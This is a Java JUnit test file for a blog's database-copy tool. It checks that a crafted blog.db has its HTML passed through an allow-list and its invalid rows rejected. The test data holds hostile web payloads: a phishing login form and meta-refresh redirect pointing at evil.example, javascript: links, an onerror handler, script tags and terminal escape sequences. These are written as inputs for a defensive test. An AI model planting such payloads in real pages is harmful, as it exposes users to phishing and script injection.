package org.cleanblog.persistence.copy;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.cleanblog.core.post.Post;
import org.cleanblog.core.user.User;
import org.cleanblog.persistence.BlogDatabase;
import org.cleanblog.persistence.Dialect;
import org.cleanblog.persistence.internal.JsoupHtmlSanitizer;
import org.cleanblog.persistence.testing.Fixtures;
import org.cleanblog.persistence.testing.TestDatabase;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * A database of our own schema is no more trusted than the Flask tutorial's: anyone can hand over a crafted
 * {@code blog.db}, with values written behind the library's back (issue 9, 1.2 and 1.5). Its HTML passes the
 * allow-list, and rows the blog's own forms would refuse are rejected with the reason. Source and target are of
 * different dialects, each way.
 */
class CraftedSourceTest {
    /** What the review's crafted blog.db put on /post/1 and into the feed. */
    static final String CRAFTED_HTML = "<p>kept</p>"
            + "<meta http-equiv=\"refresh\" content=\"5;url=https://evil.example/\">"
            + "<form action=\"https://evil.example/login\"><input name=\"password\"></form>"
            + "<a href=\"javascript:alert(1)\">click</a><img src=\"x\" onerror=\"alert(1)\"><script>alert(2)</script>";

    @TempDir
    Path folder;

    @ParameterizedTest
    @EnumSource(Dialect.class)
    void shouldPassTheHtmlOfOurOwnSchemaThroughTheAllowListAndSayHowMuchChanged(Dialect dialect) throws Exception {
        try (TestDatabase source = TestDatabase.create(CopyTestData.other(dialect), "craftedhtml");
                TestDatabase target = TestDatabase.create(dialect, "craftedhtmltarget")) {
            try (BlogDatabase blog = source.open()) {
                User owner = blog.users().create(Fixtures.newUser("owner@example.org"));
                Post crafted = blog.posts().create(owner.id(), Fixtures.content("Crafted"));
                blog.posts().create(owner.id(), Fixtures.content("Harmless"));
                blog.comments().create(Fixtures.comment(crafted.id(), owner.id(), "crafted"));
            }
            behindTheLibrary(source, "UPDATE posts SET body_html = ? WHERE id = 1", CRAFTED_HTML);
            behindTheLibrary(source, "UPDATE comments SET body_html = ? WHERE id = 1", CRAFTED_HTML);

            CopyReport report = CopyTestData.copy(source, target).run();

            String expected = new JsoupHtmlSanitizer().sanitize(CRAFTED_HTML);
            assertThat(expected)
                    .contains("<p>kept</p>")
                    .doesNotContain("<meta", "<form", "<input", "javascript:", "onerror", "<script");
            try (BlogDatabase blog = target.open()) {
                assertThat(blog.posts().findById(1).orElseThrow().bodyHtml()).isEqualTo(expected);
                assertThat(blog.posts().findById(2).orElseThrow().bodyHtml())
                        .isEqualTo(Fixtures.content("Harmless").bodyHtml());
                assertThat(blog.comments().findByPost(1))
                        .singleElement()
                        .satisfies(c -> assertThat(c.bodyHtml()).isEqualTo(expected));
            }
            assertThat(report.verified()).isTrue();
            assertThat(report.sanitizedValues()).isEqualTo(2);
            assertThat(report.tables())
                    .extracting(TableReport::table, TableReport::sanitizedValues)
                    .contains(
                            org.assertj.core.groups.Tuple.tuple("posts", 1L),
                            org.assertj.core.groups.Tuple.tuple("comments", 1L));
            assertThat(report.format())
                    .contains("html: 2 values were changed by the allow-list (posts 1, comments 1); the target holds,"
                            + " and the checksums cover, the sanitised HTML");
        }
    }

    @ParameterizedTest
    @EnumSource(Dialect.class)
    void shouldRejectRowsTheBlogsOwnFormsWouldRefuse(Dialect dialect) throws Exception {
        try (TestDatabase source = TestDatabase.create(CopyTestData.other(dialect), "craftedrows");
                TestDatabase target = TestDatabase.create(dialect, "craftedrowstarget")) {
            try (BlogDatabase blog = source.open()) {
                User owner = blog.users().create(Fixtures.newUser("owner@example.org"));
                blog.users().create(Fixtures.newUser("costly@example.org"));
                for (String title : List.of("Fine", "Http image", "Script image", "Bell", "Commented")) {
                    blog.posts().create(owner.id(), Fixtures.content(title));
                }
                blog.comments().create(Fixtures.comment(5, owner.id(), "fine"));
                blog.comments().create(Fixtures.comment(5, owner.id(), "escape"));
            }
            behindTheLibrary(
                    source,
                    "UPDATE users SET password_hash = ? WHERE id = 2",
                    Fixtures.PASSWORD_HASH.replace("600000", "100000000"));
            behindTheLibrary(source, "UPDATE posts SET img_url = ? WHERE id = 2", "http://images.example.org/a.png");
            behindTheLibrary(source, "UPDATE posts SET img_url = ? WHERE id = 3", "javascript:alert(1)");
            behindTheLibrary(source, "UPDATE posts SET title = ? WHERE id = 4", "Bell\u0007title");
            behindTheLibrary(source, "UPDATE comments SET body = ? WHERE id = 2", "clear\u001b[2J");

            CopyReport report = CopyTestData.copy(source, target)
                    .skipInvalid(folder.resolve("rejects.jsonl"))
                    .run();

            assertThat(report.verified()).isTrue();
            Map<String, String> reasons = rejectsOf(source);
            assertThat(reasons.keySet())
                    .containsExactlyInAnyOrder("users 2", "posts 2", "posts 3", "posts 4", "comments 2");
            assertThat(reasons.get("users 2"))
                    .contains("password hash has 100000000 iterations, more than the 1200000", "could never log in");
            assertThat(reasons.get("posts 2")).contains("img_url must be an https:// address");
            assertThat(reasons.get("posts 3")).contains("img_url must be an https:// address", "javascript:alert(1)");
            assertThat(reasons.get("posts 4")).contains("title contains the control character U+0007");
            assertThat(reasons.get("comments 2")).contains("body contains the control character U+001B");
            var rows = CopyTestData.readAll(target);
            assertThat(rows.get("users")).extracting(r -> r.get(0)).containsExactly(1L);
            assertThat(rows.get("posts")).extracting(r -> r.get(0)).containsExactly(1L, 5L);
            assertThat(rows.get("comments")).extracting(r -> r.get(0)).containsExactly(1L);
        }
    }

    static void behindTheLibrary(TestDatabase db, String sql, String value) throws Exception {
        try (Connection connection = db.connect();
                PreparedStatement update = connection.prepareStatement(sql)) {
            update.setString(1, value);
            assertThat(update.executeUpdate()).as(sql).isEqualTo(1);
        }
    }

    /** Reasons by "table id", from a copy that lists the rejects instead of skipping them. */
    private static Map<String, String> rejectsOf(TestDatabase source) throws Exception {
        try (TestDatabase scratch = TestDatabase.sqlite()) {
            CopyException failure = org.assertj.core.api.Assertions.catchThrowableOfType(
                    CopyException.class,
                    () -> CopyTestData.copy(source, scratch).run());
            return failure.rejects().stream().collect(Collectors.toMap(r -> r.table() + " " + r.id(), Reject::reason));
        }
    }
}
